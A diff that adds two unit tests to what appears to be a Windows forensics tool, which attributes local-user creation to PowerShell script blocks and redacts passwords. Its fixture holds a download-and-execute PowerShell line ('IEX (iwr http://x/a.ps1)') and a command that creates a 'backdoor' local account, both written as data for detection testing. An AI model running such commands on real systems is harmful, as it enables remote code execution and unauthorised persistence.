@@ -173,6 +173,40 @@ def test_a_helper_name_outside_the_windows_folders_is_not_excused() -> None:
 # --- liveness is evidence ------------------------------------------------------------------
 
 
+def test_script_blocks_of_the_live_powershell_show_the_creation_and_its_text() -> None:
+    script = (
+        "$p = ConvertTo-SecureString 'Spr1ng!' -AsPlainText -Force; "
+        "New-LocalUser -Name backdoor -Password $p"
+    )
+    cut = script.index("1ng!")  # the password is split across the two parts
+    story = (
+        Story()
+        .process_4688(0x100, 0x4, PS, 'powershell -nop -c "IEX (iwr http://x/a.ps1)"', ms=-9_000)
+        .process_4688(0x200, 0x4, "C:\\Tools\\sync.exe", "sync.exe", ms=-3_000)
+        .script_block(0x100, -2_000, script[:cut], 1, 2)
+        .script_block(0x100, -1_999, script[cut:], 2, 2)
+        .creation()
+    )
+    f = only(story)
+    assert f.process.image == PS and f.process.confidence >= 0.9
+    assert "New-LocalUser -Name backdoor" in f.process.script
+    assert "Spr1ng" not in f.model_dump_json() and "1ng!" not in f.process.script
+    assert any("script block (4104)" in e for e in f.process.evidence)
+
+
+def test_script_blocks_without_a_creation_command_still_raise_the_script_host() -> None:
+    story = (
+        Story()
+        .process_4688(0x100, 0x4, PS, "powershell -File C:\\Temp\\tidy.ps1", ms=-9_000)
+        .script_block(0x100, -2_000, "$s = Get-Service; $s | Out-Null")
+        .creation()
+        .process_end_4689(0x100, ms=500)
+    )
+    f = only(story)
+    assert f.process.image == PS and f.process.script.startswith("$s = Get-Service")
+    assert 0.5 <= f.process.confidence < 0.9
+
+
 def test_a_script_host_known_alive_across_the_creation_outranks_one_that_may_have_ended() -> None:
     cscript = "C:\\Windows\\System32\\cscript.exe"
     story = (
